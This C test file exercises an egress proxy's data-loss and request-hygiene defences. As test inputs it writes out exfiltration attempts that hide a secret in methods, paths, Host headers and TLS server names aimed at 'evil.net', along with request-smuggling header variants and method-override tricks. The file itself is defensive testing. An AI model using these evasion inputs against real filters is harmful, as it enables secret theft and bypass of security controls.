/* attack_test.c — stories of clients and origins that mean harm, through the whole egress. */
#include <ctype.h>
#include <stdio.h>

#include "fsm/names.h"
#include "reactor/base/mem.h"
#include "reactor/net/stream_mem.h"
#include "reactor/wire/dns.h"
#include "tests/story.h"

/* Nobody was asked for, no log line has it in any case of letters. */
static void assert_kept(const char *secret)
{
    assert_int_equal(world.resolve_count, 0);
    assert_int_equal(world.connect_count, 0);
    if (strcasestr(egress_log(), secret) != NULL) fail_msg("logged: %s", egress_log());
}

static void a_secret_does_not_leave_as_a_method(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, EGRESS_SECRET " http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n");
    assert_says(&client, "dlp-token");
    assert_kept(EGRESS_SECRET);
}

static void a_secret_does_not_leave_behind_an_empty_line(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, "\r\nGET http://api.example.com/" EGRESS_SECRET " HTTP/1.1\r\nHost: api.example.com\r\n\r\n");
    assert_says(&client, "dlp-token");
    assert_kept(EGRESS_SECRET);
}

static void a_secret_does_not_leave_in_another_case(void **state)
{
    char shouted[] = EGRESS_SECRET, request[200];
    (void)state;
    for (char *c = shouted; *c != '\0'; c++) *c = (char)toupper(*c);
    talker_connect(&client, CONN_PROXY);
    snprintf(request, sizeof request, "CONNECT %s.example.org:80 HTTP/1.1\r\nHost: %s.example.org:80\r\n\r\n", shouted,
             shouted);
    talker_say(&client, request);
    assert_says(&client, "dlp-token");
    assert_kept(EGRESS_SECRET);
}

static void a_secret_does_not_leave_with_some_letters_percent_encoded(void **state)
{
    static const char *const targets[] = {
        "/%733cr3t-t0ken-value-of-the-vault",
        "/?q=s3cr3t-t0ken-value-of-the-vaul%74",
        "/?q=s3cr3t%2dt0ken-value-of-the-vaul%2574",
    };
    char request[200];
    (void)state;
    for (size_t i = 0; i < COUNT_OF(targets); i++) {
        talker_connect(&client, CONN_PROXY);
        snprintf(request, sizeof request, "GET http://api.example.com%s HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
                 targets[i]);
        talker_say(&client, request);
        assert_says(&client, "dlp-token");
        talker_leave(&client);
    }
    assert_kept(EGRESS_SECRET);
}

static void a_secret_in_the_host_of_a_refused_request_is_not_logged(void **state)
{
    (void)state;
    talker_connect(&client, CONN_DIRECT);
    talker_say(&client, "GET / HTTP/1.1\r\nHost: " EGRESS_SECRET ".evil.net\r\n\r\n");
    assert_says(&client, "HTTP/1.1 403 ");
    assert_kept(EGRESS_SECRET);
    assert_logged("\"host\":\"(withheld)\"");
}

static void a_second_content_encoding_is_seen_too(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, "POST http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 4\r\n"
                        "Content-Encoding: identity\r\nContent-Encoding: gzip\r\n\r\n\x1f\x8b\x08\x01");
    assert_says(&client, "coding-not-readable");
    assert_int_equal(world.connect_count, 0);
}

static void what_some_origins_take_for_framing_is_dropped(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client,
               "POST http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 5\r\n"
               "Content_Length: 0\r\nTransfer_Encoding: chunked\r\nContent_Encoding: gzip\r\nX_Kept: 1\r\n\r\nhello");
    assert_true(talker_accept(&origin));
    assert_says(&origin, "Content-Length: 5\r\n");
    assert_says(&origin, "X_Kept: 1\r\n");
    assert_null(strstr(talker_heard(&origin), "Content_Length"));
    assert_null(strstr(talker_heard(&origin), "Transfer_Encoding"));
    assert_null(strstr(talker_heard(&origin), "Content_Encoding"));
}

static void trace_is_refused_however_it_is_spelled(void **state)
{
    static const char *const methods[] = {"TRACE", "trace", "TrAcE", "TRACK", "connect"};
    char request[200];
    (void)state;
    for (size_t i = 0; i < COUNT_OF(methods); i++) {
        talker_connect(&client, CONN_PROXY);
        snprintf(request, sizeof request, "%s http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
                 methods[i]);
        talker_say(&client, request);
        assert_says(&client, "HTTP/1.1 501 ");
        talker_leave(&client);
    }
    assert_int_equal(world.connect_count, 0);
}

static void a_short_head_behind_a_connect_in_pieces_is_read(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client,
               "CONNECT api.example.com:80 HTTP/1.1\r\nHost: api.example.com:80\r\nUser-Agent: a rather long one");
    talker_say(&client, "\r\n\r\n");
    talker_say(&client, "GET / HTTP/1.1\r\nHost: api.example.com\r\n\r\n");
    assert_true(talker_accept(&origin));
}

static void an_interim_answer_that_says_no_content_is_passed_on(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, GET_API);
    assert_true(talker_accept(&origin));
    talker_say(&origin, "HTTP/1.1 103 Early Hints\r\nContent-Length: 0\r\n\r\n" OK);
    assert_says(&client, "HTTP/1.1 103 ");
    assert_says(&client, "\r\n\r\nok");
}

static void a_connection_that_was_paused_at_its_last_byte_answers_the_next_request(void **state)
{
    static char body[STREAM_OUTPUT_HIGH];
    (void)state;
    memset(body, 'x', sizeof body);
    talker_connect(&client, CONN_PROXY);
    talker_connect(&other, CONN_PROXY);
    talker_say(&client, GET_API);
    assert_true(talker_accept(&origin));
    stream_pause(client.stream, true);
    talker_say(&origin, "HTTP/1.1 200 OK\r\nContent-Length: 262144\r\n\r\n");
    for (int i = 0; i < 2; i++) talker_say_bytes(&origin, (struct span){(uint8_t *)body, sizeof body});
    stream_pause(client.stream, false);
    world_turn();
    talker_forget(&origin);
    talker_say(&other, GET_API);
    assert_says(&origin, "GET /a?b=c ");
    talker_say(&origin, OK);
    assert_says(&other, "\r\n\r\nok");
}

/* --- passed through ---------------------------------------------------------------------------------------- */

static size_t put16(uint8_t *at, size_t value)
{
    at[0] = (uint8_t)(value >> 8);
    at[1] = (uint8_t)value;
    return 2;
}

/* A ClientHello of one suite, with a server_name unless it is empty. */
static struct span hello_for(const char *name)
{
    static uint8_t hello[300];
    size_t name_len = strlen(name), list = name_len > 0 ? name_len + 9 : 0, body = 2 + 32 + 1 + 4 + 2 + 2 + list;
    size_t at = 0;

    memset(hello, 0, sizeof hello);
    memcpy(hello, "\x16\x03\x01", 3), at = 3;
    at += put16(hello + at, body + 4);
    hello[at] = 1, at += 2;
    at += put16(hello + at, body);
    at += put16(hello + at, 0x0303) + 32 + 1; /* random, no session */
    at += put16(hello + at, 2);
    at += put16(hello + at, 0x1301);
    at += put16(hello + at, 0x0100);
    at += put16(hello + at, list);
    if (list == 0) return (struct span){hello, at};
    at += 2; /* server_name is extension 0 */
    at += put16(hello + at, name_len + 5);
    at += put16(hello + at, name_len + 3) + 1;
    at += put16(hello + at, name_len);
    memcpy(hello + at, name, name_len);
    return (struct span){hello, at + name_len};
}

static void open_tunnel(void)
{
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, "CONNECT pass.example.com:443 HTTP/1.1\r\nHost: pass.example.com\r\n\r\n");
    assert_true(talker_accept(&origin));
    assert_says(&client, "HTTP/1.1 200 ");
}

static void a_tunnel_passes_bytes_once_its_hello_names_the_host(void **state)
{
    struct span hello = hello_for("Pass.Example.com");
    (void)state;
    open_tunnel();
    talker_say_bytes(&client, span_first(hello, 20));
    talker_say(&origin, "a banner");
    assert_int_equal(buf_len(&origin.heard), 0);
    assert_null(strstr(talker_heard(&client), "a banner"));
    talker_say_bytes(&client, span_from(hello, 20));
    assert_true(span_is(buf_span(&origin.heard), hello));
    assert_says(&client, "a banner");
    talker_finish(&client);
    assert_true(origin.eof);
    talker_finish(&origin);
    assert_int_equal(egress.conn_count, 0);
    assert_logged("\"by\":\"TUNNEL_EV_DONE\"");
}

static void a_tunnel_whose_hello_does_not_name_the_host_passes_nothing(void **state)
{
    static const char *const names[] = {"", "evil.example.com", "pass.example.com.evil.net", "example.com"};
    (void)state;
    for (size_t i = 0; i < COUNT_OF(names); i++) {
        open_tunnel();
        talker_say_bytes(&client, hello_for(names[i]));
        assert_int_equal(buf_len(&origin.heard), 0);
        assert_true(origin.gone && client.eof);
        talker_leave(&client);
        talker_leave(&origin);
    }
    assert_logged("name-mismatch");
}

static void what_an_origin_says_before_it_resets_a_tunnel_still_arrives(void **state)
{
    (void)state;
    open_tunnel();
    talker_say_bytes(&client, hello_for("pass.example.com"));
    talker_say(&origin, "last words");
    talker_leave(&origin);
    assert_says(&client, "last words");
    assert_true(client.eof && !client.gone);
}

static void a_secret_in_a_hello_or_a_question_is_not_logged(void **state)
{
    static const uint8_t question[] = "\0\1\1\0\0\1\0\0\0\0\0\0\037S3cr3t-t0ken-value-of-the-vault\0\0\1\0\1";
    uint8_t answer[DNS_ANSWER_MAX];
    (void)state;
    talker_connect(&client, CONN_DIRECT);
    talker_say_bytes(&client, hello_for(EGRESS_SECRET ".evil.net"));
    assert_logged("dlp-token"); /* before a leaf is minted for that name */
    assert_true(names_datagram(&egress, (struct span){question, sizeof question - 1}, answer, sizeof answer) > 0);
    assert_logged("names.asked");
    assert_kept(EGRESS_SECRET);
}

static void a_tunnel_that_a_drain_cuts_is_logged(void **state)
{
    (void)state;
    open_tunnel();
    talker_say_bytes(&client, hello_for("pass.example.com"));
    conn_drain_all(&egress, true);
    world_turn();
    assert_logged("\"state\":\"TUNNEL_OVER\",\"by\":\"TUNNEL_EV_GONE\"");
}

/* --- bounds ------------------------------------------------------------------------------------------------ */

static void a_host_with_many_connections_pushes_out_its_own(void **state)
{
    static struct talker clients[POOL_KEY_MAX + 2], origins[POOL_KEY_MAX + 2];
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, "GET http://a.example.org/ok/ HTTP/1.1\r\nHost: a.example.org\r\n\r\n");
    assert_true(talker_accept(&origin));
    talker_say(&origin, OK);
    for (size_t i = 0; i < COUNT_OF(clients); i++) {
        talker_connect(&clients[i], CONN_PROXY);
        talker_say(&clients[i], GET_API);
        assert_true(talker_accept(&origins[i]));
    }
    for (size_t i = 0; i < COUNT_OF(clients); i++) talker_say(&origins[i], OK);
    assert_int_equal(pool_idle(proxy.pool), POOL_KEY_MAX + 1);
    assert_false(origin.gone);
    assert_true(origins[0].gone && origins[1].gone && !origins[2].gone);
    for (size_t i = 0; i < COUNT_OF(clients); i++) {
        talker_leave(&clients[i]);
        talker_leave(&origins[i]);
    }
}

static void on_nothing(void *owner, enum stream_event event) { (void)owner, (void)event; }

static void the_connections_to_a_name_server_are_bounded(void **state)
{
    static struct stream *near[NAMES_COUNT_MAX + 1];
    struct stream *far;
    (void)state;
    for (size_t i = 0; i < COUNT_OF(near); i++) {
        assert_int_equal(stream_mem_pair(world.loop, &near[i], &far), ERR_OK);
        stream_own(near[i], on_nothing, NULL);
        names_accept(&egress, far);
    }
    world_turn();
    assert_int_equal(egress.names_count, NAMES_COUNT_MAX);
    assert_int_equal(near[NAMES_COUNT_MAX]->err, ERR_PEER);
    for (size_t i = 0; i < COUNT_OF(near); i++) stream_free(&near[i]);
    world_turn();
    assert_int_equal(egress.names_count, 0);
}

static void a_second_try_that_fails_is_logged_with_honest_times(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client, GET_API);
    assert_true(talker_accept(&origin));
    talker_say(&origin, OK);
    world_pass(5);
    talker_forget(&client);
    talker_say(&client, GET_API);
    world_pass(5);
    struct addr addr = world.connects[0];
    world_refuse(&addr);
    talker_leave(&origin);
    assert_says(&client, "HTTP/1.1 502 ");
    if (strstr(egress_log(), "1844674407") != NULL) fail_msg("%s", egress_log());
}

/* --- no memory --------------------------------------------------------------------------------------------- */

static void leave(struct talker *talker)
{
    if (talker->stream != NULL) talker_leave(talker);
}

static void assert_not_heard(struct talker *talker, const char *text)
{
    struct span heard = buf_span(&talker->heard);

    if (heard.len > 0) assert_null(memmem(heard.at, heard.len, text, strlen(text)));
}

/* An exchange with all that can be in one, one more on its connection, one that must not leave. */
static void three_requests(void)
{
    static const char *const requests[] = {
        "POST http://api.example.com/%41 HTTP/1.1\r\nHost: api.example.com\r\nExpect: 100-continue\r\n"
        "Transfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\nX-Sum: 7\r\n\r\n",
        GET_API,
        "POST http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 31\r\n\r\n" EGRESS_SECRET,
    };
    for (size_t i = 0; i < COUNT_OF(requests); i++) {
        talker_say(&client, requests[i]);
        if (origin.stream == NULL && !talker_accept(&origin)) continue;
        talker_say(&origin, "HTTP/1.1 103 Early Hints\r\n\r\nHTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
                            "2\r\nok\r\n0\r\nX-Sum: 8\r\n\r\n");
    }
}

static void a_tunnel(void)
{
    talker_say(&client, "CONNECT pass.example.com:443 HTTP/1.1\r\nHost: pass.example.com\r\n\r\n");
    if (!talker_accept(&origin)) return;
    talker_say_bytes(&client, hello_for("pass.example.com"));
    talker_say(&origin, "an answer");
    talker_finish(&client);
}

static void a_name_that_is_refused(void)
{
    talker_say(&client, "GET / HTTP/1.1\r\nHost: " EGRESS_SECRET ".evil.net\r\n\r\n");
}

static size_t play_without(size_t n, enum conn_kind kind, void (*play)(void))
{
    size_t count;

    world.connect_count = 0;
    talker_connect(&client, kind);
    mem_fail_at(n);
    play();
    count = mem_fail_at(0);
    assert_not_heard(&origin, EGRESS_SECRET);
    leave(&client);
    leave(&origin);
    world_pass(BODY_TOTAL_MS + RELAY_IDLE_MS + ANSWER_MS);
    assert_int_equal(egress.conn_count, 0);
    assert_true(list_empty(&egress.conns));
    assert_int_equal(pool_idle(proxy.pool), 0);
    return count;
}

static void whatever_allocation_fails_nothing_leaves_that_must_not_and_all_of_it_ends(void **state)
{
    static const struct {
        enum conn_kind kind;
        void (*play)(void);
    } plays[] = {{CONN_PROXY, three_requests}, {CONN_PROXY, a_tunnel}, {CONN_DIRECT, a_name_that_is_refused}};
    (void)state;
    for (size_t i = 0; i < COUNT_OF(plays); i++) {
        size_t count = play_without(0, plays[i].kind, plays[i].play);
        assert_in_range(count, 5, 500);
        for (size_t n = 1; n <= count; n++) play_without(n, plays[i].kind, plays[i].play);
    }
    assert_null(strstr(egress_log(), EGRESS_SECRET));
}

static void what_would_turn_the_request_into_another_does_not_go_out(void **state)
{
    (void)state;
    talker_connect(&client, CONN_PROXY);
    talker_say(&client,
               "GET http://a.example.org/ok/ HTTP/1.1\r\nHost: a.example.org\r\nX-HTTP-Method-Override: DELETE\r\n"
               "x-original-url: /admin\r\nX-Kept: 1\r\n\r\n");
    assert_true(talker_accept(&origin));
    assert_says(&origin, "X-Kept: 1");
    assert_null(strstr(talker_heard(&origin), "DELETE"));
    assert_null(strstr(talker_heard(&origin), "/admin"));
}

int main(void)
{
    const struct CMUnitTest stories[] = {
        STORY(a_secret_does_not_leave_as_a_method),
        STORY(a_secret_does_not_leave_behind_an_empty_line),
        STORY(a_secret_does_not_leave_in_another_case),
        STORY(a_secret_does_not_leave_with_some_letters_percent_encoded),
        STORY(a_secret_in_the_host_of_a_refused_request_is_not_logged),
        STORY(a_second_content_encoding_is_seen_too),
        STORY(what_some_origins_take_for_framing_is_dropped),
        STORY(trace_is_refused_however_it_is_spelled),
        STORY(a_short_head_behind_a_connect_in_pieces_is_read),
        STORY(an_interim_answer_that_says_no_content_is_passed_on),
        STORY(a_connection_that_was_paused_at_its_last_byte_answers_the_next_request),
        STORY(a_tunnel_passes_bytes_once_its_hello_names_the_host),
        STORY(a_tunnel_whose_hello_does_not_name_the_host_passes_nothing),
        STORY(what_an_origin_says_before_it_resets_a_tunnel_still_arrives),
        STORY(a_secret_in_a_hello_or_a_question_is_not_logged),
        STORY(a_tunnel_that_a_drain_cuts_is_logged),
        STORY(a_host_with_many_connections_pushes_out_its_own),
        STORY(the_connections_to_a_name_server_are_bounded),
        STORY(a_second_try_that_fails_is_logged_with_honest_times),
        STORY(whatever_allocation_fails_nothing_leaves_that_must_not_and_all_of_it_ends),
        STORY(what_would_turn_the_request_into_another_does_not_go_out),
    };
    return cmocka_run_group_tests(stories, NULL, NULL);
}
